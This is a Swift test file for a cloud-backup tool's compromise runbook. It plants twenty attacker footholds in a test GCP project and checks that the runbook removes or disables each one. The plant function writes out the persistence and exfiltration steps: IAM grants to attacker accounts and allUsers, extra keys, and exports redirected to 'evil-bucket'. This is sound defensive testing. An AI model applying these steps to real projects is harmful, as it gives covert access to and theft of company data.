import Foundation
import JSON
import TestSupport
import Testing

@testable import CommandTests

/// What somebody may have left behind to come back, or to get the data elsewhere: each is found by the runbook, taken away, or
/// left open.
@Suite(
  "runbooks/bucket-or-key-compromised.md: who stays", .enabled(if: Gcloud.path != nil, "\(Gcloud.absence)"))
struct AttackerStaysTests {
  private static let backups = "backups@pyme-erp.iam.gserviceaccount.com"
  private static let accounts = "/v1/projects/pyme-erp/serviceAccounts"
  private static let jobs = "/v1/projects/pyme-erp/locations/us-central1/jobs"
  /// After which the way is not there any more, or is shut.
  private static let taken: Set = [
    "access-bucket-member", "access-project-member", "access-account-member", "access-public", "access-object-acls",
    "access-cors", "access-website", "access-soft-delete",
  ]
  /// Evidence, which is kept but does nothing, and copies that are elsewhere: somebody has to decide.
  private static let open: Set = [
    "access-account-key", "access-hmac-key", "access-job", "access-export", "access-other-bucket",
    "access-other-database",
  ]

  /// Twenty ways to stay.
  private func plant(_ company: Company) async throws {
    let client = company.client
    for (role, member) in [
      ("roles/storage.admin", "user:attacker@example.com"), ("roles/storage.objectViewer", "group:crew@example.com"),
      ("roles/storage.objectViewer", "domain:example.com"),
      ("roles/storage.legacyBucketReader", "projectViewer:pyme-erp"),
      ("roles/storage.objectViewer", "allUsers"),
    ] {
      try await client.grant(role, to: member, onBucket: "pyme-backups")
    }
    for (role, member) in [
      ("projects/pyme-erp/roles/innocent", "user:attacker@example.com"),
      ("roles/datastore.importExportAdmin", "user:mole@example.com"),
      ("roles/iam.serviceAccountTokenCreator", "user:mole@example.com"),
    ] {
      try await client.grant(role, to: member, onProject: "pyme-erp")
    }
    let conditional = try await company.shell(
      """
      gcloud storage buckets add-iam-policy-binding gs://pyme-backups --member=user:later@example.com \
        --role=roles/storage.objectViewer \
        --condition='expression=request.time > timestamp("2030-01-01T00:00:00Z"),title=later'
      """)
    #expect(conditional.status == 0, "\(conditional.errors)")
    try await client.call(
      "POST", "\(Self.accounts)/\(Self.backups):setIamPolicy",
      #"{"policy":{"bindings":[{"role":"roles/iam.serviceAccountTokenCreator","members":["user:attacker@example.com"]}]}}"#
    )
    for _ in 0..<2 { try await client.call("POST", "\(Self.accounts)/\(Self.backups)/keys", "{}") }
    try await client.call("POST", "/storage/v1/projects/pyme-erp/hmacKeys?serviceAccountEmail=\(Self.backups)")
    try await client.call(
      "PATCH", "/storage/v1/b/pyme-backups",
      """
      {"softDeletePolicy":{"retentionDurationSeconds":"0"},"cors":[{"origin":["*"],"method":["GET"]}],
      "website":{"mainPageSuffix":"index.html"},
      "iamConfiguration":{"publicAccessPrevention":"inherited","uniformBucketLevelAccess":{"enabled":false}}}
      """)
    // The nightly job goes elsewhere, and another one beside it.
    let own = "\(Self.jobs)/rekindle-daily-export"
    let body = Base64.text(Array(#"{"outputUriPrefix":"gs://evil-bucket"}"#.utf8))
    let job = try await client.call("GET", own)
    let target = (job["httpTarget"] ?? .null).setting("body", .string(body))
    let changed = String(decoding: target.json, as: UTF8.self)
    try await client.call("PATCH", "\(own)?updateMask=httpTarget", #"{"httpTarget":\#(changed)}"#)
    try await client.call(
      "POST", Self.jobs,
      #"{"name":"\#(Self.jobs.dropFirst(4))/reports","schedule":"0 4 * * *","timeZone":"Etc/UTC","httpTarget":\#(changed)}"#
    )
    try await client.makeBucket("evil-bucket", in: "pyme-erp")
    let loot = try await client.finish(
      client.call("POST", "/v1/\(Company.production):exportDocuments", #"{"outputUriPrefix":"gs://evil-bucket/loot"}"#))
    #expect(loot["response"] != nil)
    try await client.call("POST", "/v1/projects/pyme-erp/databases?databaseId=copy-of-it", #"{"locationId":"nam5"}"#)
  }

  private func access(_ company: Company, _ options: String...) async throws -> [JSONValue] {
    let outcome = try await company.rekindle(["backups", "access", "--format", "json"] + options)
    let answer = try JSONParser.parse(Array(outcome.output.utf8))
    #expect(answer["unread"]?.elements?.isEmpty == true, "\(outcome.output)")
    return answer["entries"]?.elements?.filter { $0["ours"]?.truth != true } ?? []
  }

  @Test(
    "Each of twenty ways is found; what can be taken away is, and the rest keeps the run from being finished",
    .timeLimit(.minutes(10)))
  func everyWay() async throws {
    try await Company.scheduled { company in
      let export = try await company.backUp()
      let rehearsal = try await company.rekindle(
        "rehearse", "gs://pyme-backups/\(export)", "--staging", "embedded", "--key", "rehearsal.key", "--yes")
      #expect(rehearsal.status == 0, "\(rehearsal.errors)")
      #expect(try await access(company).isEmpty)
      try await plant(company)
      let before = try await access(company)
      #expect(before.count >= 20, "\(before.compactMap { $0["id"]?.text })")
      #expect(Set(before.compactMap { $0["code"]?.text }) == Self.taken.union(Self.open))

      let outcome = try await company.run(
        "bucket-or-key-compromised", "--set", "what=bucket", "--set", "staging=embedded", "--yes", "--confirm",
        "bucket=gs://pyme-backups", "--answer", "foreign=all", "--confirm", "foreign=all", "--done", "13=told")
      #expect(outcome.status == 1, "\(outcome.output) \(outcome.errors)")
      let run = try await company.rekindle("runbook", "status", "journal", "--format", "json")
      let status = try JSONParser.parse(Array(run.output.utf8))
      #expect(status["state"]?.text == "open", "\(run.output)")
      let points = status["open"]?.elements?.compactMap { $0["point"]?.text } ?? []

      let after = try await access(company)
      #expect(after.allSatisfy { Self.open.contains($0["code"]?.text ?? "") }, "\(after.compactMap { $0["id"]?.text })")
      for entry in after {
        let id = try #require(entry["id"]?.text)
        #expect(points.contains { $0.contains(id) }, "\(id)")
      }
      // What was left is shut.
      let keys = try await company.client.call("GET", "\(Self.accounts)/\(Self.backups)/keys")["keys"]?.elements
      #expect(keys?.count == 2 && keys?.allSatisfy { $0["disabled"]?.truth == true } == true)
      let hmac = try await company.client.call("GET", "/storage/v1/projects/pyme-erp/hmacKeys")["items"]?.elements
      #expect(hmac?.compactMap { $0["state"]?.text } == ["INACTIVE"])
      #expect(try await company.client.call("GET", "\(Self.jobs)/reports")["state"]?.text == "PAUSED")
      #expect(try await company.rekindle("schedule", "plan").status == 0)
      // And what was there before is in the journal's folder.
      let evidence = try company.text("journal/evidence/bucket-policy.json")
      #expect(evidence.contains("attacker@example.com") && evidence.contains("allUsers"))
    }
  }
}
